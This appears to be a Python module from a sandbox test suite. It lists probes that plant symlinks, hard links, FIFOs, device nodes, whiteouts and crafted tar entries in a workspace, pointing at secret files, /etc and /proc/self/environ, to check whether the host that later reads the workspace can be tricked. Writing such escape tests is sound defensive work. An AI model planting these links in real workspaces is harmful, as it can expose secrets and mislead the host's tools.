"""Owns the attacks that leave in the workspace what would trick the host that reads it later."""

from __future__ import annotations

from typing import Any

from .probe import Probe
from .snippets import RING


def _p(name: str, code: str, **options: Any) -> Probe:
    return Probe(f"li-{name}", "links", code, **options)


PROBES = (
    _p("symlink", 'os.symlink(T["secret_file"], "report.txt")'),
    _p("symlink-relative", 'os.symlink("../outside/secret.txt", "report.txt")'),
    _p("symlink-dangling", 'os.symlink(T["outside"] + "/not-yet", "result.csv")'),
    _p("symlink-folder", 'os.symlink(T["outside"], "results")'),
    _p("symlink-loop", 'os.symlink("loop", "loop")'),
    _p("symlink-proc", 'os.symlink("/proc/self/environ", "report.txt")'),
    _p("symlink-in-folder", 'os.makedirs("a/b"); os.symlink("/", "a/b/c")'),
    _p("raw-symlinkat", 'syscall("symlinkat", b"/etc", -100, os.fsencode(T["work"] + "/s"))'),
    _p("libc-symlink", 'libc.symlink(b"/etc", os.fsencode(T["work"] + "/s"))'),
    _p(
        "io-uring-symlink",
        RING
        + """
ring = Ring()
target, target_address = text(b"/etc")
name, name_address = text(os.fsencode(T["work"] + "/s"))
ring.do(38, -100, target_address, offset=name_address)
""",
    ),
    _p(
        "tar-symlink",
        """
import io, tarfile
archive = io.BytesIO()
with tarfile.open(fileobj=archive, mode="w") as tar:
    entry = tarfile.TarInfo("report.txt")
    entry.type, entry.linkname = tarfile.SYMTYPE, T["secret_file"]
    tar.addfile(entry)
archive.seek(0)
tarfile.open(fileobj=archive).extractall(T["work"], filter="fully_trusted")
""",
    ),
    _p(
        "rename-symlink",
        """
for folder in (os.environ["HOME"], os.environ["TMPDIR"], T["work"]):
    try:
        os.symlink("/etc", folder + "/s")
        os.rename(folder + "/s", T["work"] + "/moved")
    except OSError as problem:
        show(problem)
""",
    ),
    _p("data-link", 'os.unlink("data/data"); os.symlink(T["outside"], "data/data")', alone=True),
    _p(
        "move-data-link",
        'os.rename("data/data", "elsewhere"); os.symlink(T["outside"], "data/data")',
        alone=True,
    ),
    _p("hard-link", 'open("x", "w").close(); os.link("x", "y")'),
    _p("hard-link-data", 'os.link(T["data_file"], "y")'),
    _p(
        "raw-linkat",
        """
fd = os.open(T["secret_file"], os.O_PATH)
follow = 0x400
syscall("linkat", -100, f"/proc/self/fd/{fd}".encode(), -100, os.fsencode(T["work"] + "/y"), follow)
""",
    ),
    # by descriptor alone only with CAP_DAC_READ_SEARCH
    _p(
        "linkat-descriptor",
        """
fd = os.open(T["secret_file"], os.O_PATH)
syscall("linkat", fd, b"", -100, os.fsencode(T["work"] + "/y"), 0x1000)
""",
        needs="root",
    ),
    _p(
        "io-uring-link",
        RING
        + """
ring = Ring()
old, old_address = text(os.fsencode(T["secret_file"]))
new, new_address = text(os.fsencode(T["work"] + "/y"))
ring.do(39, -100, old_address, 0xFFFFFF9C, new_address)
""",
    ),
    _p("fifo", 'os.mkfifo("report.txt")'),
    _p("raw-fifo", 'syscall("mknodat", -100, os.fsencode(T["work"] + "/f"), 0o010600, 0)'),
    _p("socket-node", 'os.mknod("report.txt", 0o140600)'),
    _p(
        "socket",
        """
import socket
socket.socket(socket.AF_UNIX).bind(T["work"] + "/s")
""",
    ),
    # device nodes are root's
    _p("character-device", 'os.mknod("report.txt", 0o020600, os.makedev(1, 1))', needs="root"),
    _p("block-device", 'os.mknod("report.txt", 0o060600, os.makedev(254, 0))', needs="root"),
    _p(
        "null-device",
        'syscall("mknod", os.fsencode(T["work"] + "/n"), 0o020666, os.makedev(1, 3))',
        needs="root",
    ),
    _p(
        "whiteout",
        """
open(T["work"] + "/x", "w").close()
whiteout = 4
syscall("renameat2", -100, os.fsencode(T["work"] + "/x"), -100, os.fsencode(T["work"] + "/y"), whiteout)
""",
    ),
    _p("whiteout-node", 'os.mknod("w", 0o020000, 0)'),
    _p(
        "tar-device",
        """
import io, tarfile
archive = io.BytesIO()
with tarfile.open(fileobj=archive, mode="w") as tar:
    entry = tarfile.TarInfo("pipe")
    entry.type = tarfile.FIFOTYPE
    tar.addfile(entry)
archive.seek(0)
tarfile.open(fileobj=archive).extractall(T["work"], filter="fully_trusted")
""",
    ),
)
